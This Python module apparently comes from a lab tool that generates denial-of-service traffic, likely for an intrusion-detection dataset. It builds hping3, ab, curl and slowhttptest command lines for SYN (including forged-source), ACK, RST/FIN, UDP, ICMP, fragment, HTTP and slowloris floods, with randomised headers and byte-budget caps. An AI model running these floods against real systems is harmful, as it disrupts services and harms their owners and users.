"""Floods with hping3, ab and slowhttptest; bounded by a packet count and the byte budget."""

from __future__ import annotations

from emtc_lab.attacks.base import MOST_BYTES, Aim, attack

_LOUD, _LOW = (120.0, 500.0), (6.0, 40.0)
_HEADERS = 40


def hping(aim: Aim, *options: object, payload: int = 0, largest_rate: float = _LOUD[1]) -> list[str]:
    """An hping3 command line at a rate of the aim's style, with varied window, ports and TTL."""
    rate = min(aim.rate(_LOUD, _LOW), largest_rate)
    count = min(rate * aim.seconds, MOST_BYTES / (payload + _HEADERS))
    looks = ["-t", aim.rng.choice([64, 128, 255, aim.rng.randint(40, 250)])]
    if payload:
        looks += ["-d", payload]
    every_us = int(1e6 / rate)
    words = ["hping3", "-q", *options, *looks, "-i", f"u{every_us}", "-c", int(count), aim.victim]
    return [str(word) for word in words]


def _tcp(aim: Aim, flags: str, *more: object) -> list[str]:
    window = aim.rng.choice([512, 1024, 5840, 29200, 64240])
    source = aim.rng.randrange(1024, 60000)
    keep = ["-k"] if aim.rng.random() < 0.3 else []
    port = aim.rng.choice([22, 23, 80, 443, 502, 1883, 8080])
    return hping(aim, *flags.split(), *more, "-w", window, "-s", source, *keep, "-p", port)


@attack("syn-flood", "flood", "device", "api", ok=(0, 1))
def syn_flood(aim: Aim) -> list[str]:
    """SYNs from a device's own address."""
    return _tcp(aim, "-S")


@attack("syn-flood-forged", "flood", "outside", "device", forged=True, ok=(0, 1))
def syn_flood_forged(aim: Aim) -> list[str]:
    """SYNs with random senders from the internet."""
    return _tcp(aim, "-S", "--rand-source")


@attack("ack-flood", "flood", "device", "broker", ok=(0, 1))
def ack_flood(aim: Aim) -> list[str]:
    """ACKs that belong to no connection."""
    return _tcp(aim, "-A")


@attack("rst-fin-flood", "flood", "outside", "device", ok=(0, 1))
def rst_fin_flood(aim: Aim) -> list[str]:
    """RST and FIN together."""
    return _tcp(aim, "-R -F")


@attack("psh-ack-flood", "flood", "lan", "device", ok=(0, 1))
def psh_ack_flood(aim: Aim) -> list[str]:
    """Data that belongs to no connection."""
    return _tcp(aim, "-P -A", "-d", aim.rng.choice([16, 64]))


@attack("udp-flood", "flood", "device", "media", ok=(0, 1))
def udp_flood(aim: Aim) -> list[str]:
    """Datagrams to one port or to many."""
    port = aim.rng.choice(["9", "++1000", "53", "5004"])
    return hping(aim, "--udp", "-p", port, payload=aim.rng.choice([16, 120, 200, 512]), largest_rate=250)


@attack("icmp-flood", "flood", "outside", "device", ok=(0, 1))
def icmp_flood(aim: Aim) -> list[str]:
    """Echo requests."""
    return hping(aim, "--icmp", payload=aim.rng.choice([8, 56, 400]), largest_rate=250)


@attack("fragment-flood", "flood", "lan", "device", ok=(0, 1))
def fragment_flood(aim: Aim) -> list[str]:
    """Datagrams in small fragments."""
    return hping(aim, "--udp", "-p", "9", "-f", "-m", aim.rng.choice([16, 64, 256]), payload=512, largest_rate=40)


@attack("http-flood", "flood", "device", "api")
def http_flood(aim: Aim) -> list[str]:
    """Requests as fast as they are answered; low: a few a second over one connection."""
    if aim.loud:
        return [
            "ab",
            "-q",
            "-t",
            f"{aim.seconds:.0f}",
            "-c",
            str(aim.rng.randint(5, 20)),
            f"http://{aim.victim}/page1",
        ]
    per_minute = int(aim.rng.uniform(60, 180))
    pages = [f"http://{aim.victim}/page{number}" for number in range(int(aim.seconds * per_minute / 60))]
    return ["curl", "-s", "-o", "/dev/null", "--rate", f"{per_minute}/m", *pages]


@attack("slowloris", "flood", "device", "api")
def slowloris(aim: Aim) -> list[str]:
    """Requests that never end (slowhttptest)."""
    connections, per_s = (aim.rng.randint(100, 250), 20) if aim.loud else (aim.rng.randint(10, 30), 1)
    amount = ["-c", connections, "-r", per_s, "-i", aim.rng.randint(3, 8), "-l", int(aim.seconds)]
    return [str(word) for word in ("slowhttptest", "-H", *amount, "-u", f"http://{aim.victim}/")]
